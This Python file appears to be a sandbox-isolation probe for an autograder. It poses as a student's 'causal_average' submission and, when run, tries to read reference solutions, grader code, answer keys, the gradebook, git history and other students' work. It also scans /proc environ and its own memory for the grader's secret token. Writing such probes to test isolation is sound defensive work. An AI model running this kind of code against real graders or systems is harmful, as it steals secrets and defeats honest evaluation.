# why: looks for the reference, the graders, the answer keys, other students' work, the gradebook, the git history and the course secret (in /proc and in its own memory)
# earns: zero-on causal_average
import ctypes as _ctypes
import json as _json
import os as _os
import re as _re


def _attempt(found, label, action):
    try:
        result = action()
        found[label] = "READ " + repr(result)[:40]
    except BaseException as exc:  # noqa: BLE001
        found[label] = "no (" + type(exc).__name__ + ")"


def _module(name):
    """What an import of `name` holds: its file, or what its folders list (a covered package's empty folder
    imports as an empty namespace package, which holds nothing)."""
    module = __import__(name, fromlist=["_"])
    held = [module.__file__] if getattr(module, "__file__", None) else []
    held += [n for folder in getattr(module, "__path__", []) for n in _os.listdir(folder)]
    if not held:
        raise LookupError("an empty namespace package")
    return held


def _listing(folder):
    """A folder's entries, if it shows any (an empty folder hides nothing; the project keeps only its .venv)."""
    names = [n for n in _os.listdir(folder) if n != ".venv"]
    if not names:
        raise LookupError("empty")
    return names


def _pids():
    """The processes /proc shows (none where /proc cannot be listed: Landlock's view)."""
    try:
        return [p for p in _os.listdir("/proc") if p.isdigit()]
    except OSError:
        return []


def _grep_memory(needle):
    """Every readable private mapping of this very process (the heap, the stack, the environment block)."""
    hits, scanned = [], 0
    try:
        maps = open("/proc/self/maps")
    except OSError:  # Landlock's view: a forked part may not read its own /proc entry; its objects, then
        return _grep_objects(needle)
    with maps:
        for line in maps:
            fields = line.split()
            start, end = (int(x, 16) for x in fields[0].split("-"))
            if not fields[1].startswith("rw") or end - start > 256 * 2**20 or scanned > 1024 * 2**20:
                continue
            if len(fields) > 5 and fields[5].startswith("/") and ".so" in fields[5]:
                continue
            scanned += end - start
            try:
                data = _ctypes.string_at(start, end - start)
            except Exception:  # noqa: BLE001
                continue
            hits += [m.decode() for m in needle.findall(data)]
    return hits, scanned


def _grep_objects(needle):
    """Every string and bytes object this process's containers hold."""
    import gc

    hits, scanned = [], 0
    for container in gc.get_objects():
        values = container.values() if isinstance(container, dict) else container if isinstance(container, (list, tuple)) else ()
        for value in values:
            if isinstance(value, str):
                value = value.encode("utf-8", "replace")
            if isinstance(value, (bytes, bytearray)):
                scanned += len(value)
                hits += [m.decode() for m in needle.findall(value)]
    return hits, max(scanned, 2**20)


def causal_average(T):
    found = {}
    _attempt(found, "reference source", lambda: open("@ROOT@/attention_ref/masks.py").read())
    _attempt(found, "graders source", lambda: open("@ROOT@/autograder/graders/test_masks.py").read())
    _attempt(found, "corpus answer", lambda: open("@ROOT@/tests/corpus/base.py").read())
    _attempt(found, "answer key", lambda: _listing("@ROOT@/solutions"))
    _attempt(found, "source notebook", lambda: open("@ROOT@/assignments/attention/attention.ipynb").read())
    _attempt(found, "git history", lambda: _listing("@ROOT@/.git/objects"))
    _attempt(found, "gradebook", lambda: open("@ROOT@/gradebook.db", "rb").read(16))
    _attempt(found, "project folder", lambda: _listing("@ROOT@"))
    _attempt(found, "other students", lambda: open("@SUBS@/base.py").read())
    _attempt(found, "other students' folder", lambda: _listing("@SUBS@"))
    _attempt(found, "reports", lambda: _listing("@OUT@"))
    _attempt(found, "import attention_ref", lambda: _module("attention_ref"))
    _attempt(found, "import graders", lambda: _module("autograder.graders.test_masks"))
    _attempt(found, "import engine", lambda: _module("autograder.engine"))
    try:
        found["home listing"] = sorted(_os.listdir("@HOME@"))
    except OSError:
        found["home listing"] = []
    needle = _re.compile(rb"s3cr3t-[0-9]{9}")  # the secret's shape: a plain literal would find itself in memory
    secret = []
    for pid in _pids() + ["self"]:
        for name in ("environ", "cmdline"):
            try:
                data = open(f"/proc/{pid}/{name}", "rb").read()
            except OSError:
                continue
            secret += [f"/proc/{pid}/{name}" for _ in needle.findall(data)]
    secret += [k for k, v in _os.environ.items() if "s3cr3t" in v or k == "AUTOGRADER_SECRET"]
    memory_hits, scanned = _grep_memory(needle)
    found["secret"] = secret + ["memory: " + h for h in memory_hits]
    found["memory scanned MB"] = scanned // 2**20
    found["visible pids"] = sorted(int(p) for p in _pids())[:10]
    raise RuntimeError("PROBE " + _json.dumps(found))
